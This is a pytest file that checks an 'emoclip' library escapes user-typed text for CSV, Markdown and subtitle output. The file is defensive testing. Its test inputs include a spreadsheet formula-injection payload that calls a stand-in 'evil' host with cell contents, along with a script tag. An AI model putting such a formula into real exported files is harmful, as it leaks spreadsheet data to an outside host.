# SPDX-License-Identifier: Apache-2.0
"""What people type is text in every format."""

import csv
import io

import pytest

from emoclip.typed_text import csv_cell, markdown_text, parse_labels, srt_text, vtt_text


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_is_no_formula_and_keeps_what_was_typed(text):
    file = io.StringIO()
    csv.writer(file).writerow([csv_cell(text)])
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert row == [f"'{text}"]
    assert csv_cell("about_to_cry") == "about_to_cry"


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        ("a\n# b", "a # b"),
        ("# heading", "\\# heading"),
        ("<script>x</script>", "&lt;script&gt;x&lt;/script&gt;"),
        ("[x](http://evil)", "\\[x\\](http://evil)"),
        ("a | b", "a \\| b"),
        ("costs $5 and $6", "costs \\$5 and \\$6"),
        ("about_to_cry", "about_to_cry"),
        ("_calm_", "\\_calm\\_"),
        ("1. calm", "1\\. calm"),
    ],
)
def test_markdown_shows_what_was_typed(text, markdown):
    assert markdown_text(text) == markdown


def test_subtitles_hold_no_markup():
    assert srt_text("x {\\an8}<b>y\n\n2") == "x {\u2060\\an8}<\u2060b>y 2"
    assert vtt_text("<v Eve> & you") == "&lt;v Eve&gt; &amp; you"


def test_labels_as_people_type_them():
    assert parse_labels(["12:30", "calm: a relaxed face", "amused:a grin;laughing"]) == {
        "12:30": None,
        "calm": ["a relaxed face"],
        "amused": ["a grin", "laughing"],
    }
    with pytest.raises(ValueError, match="no label before the colon"):
        parse_labels([": x"])
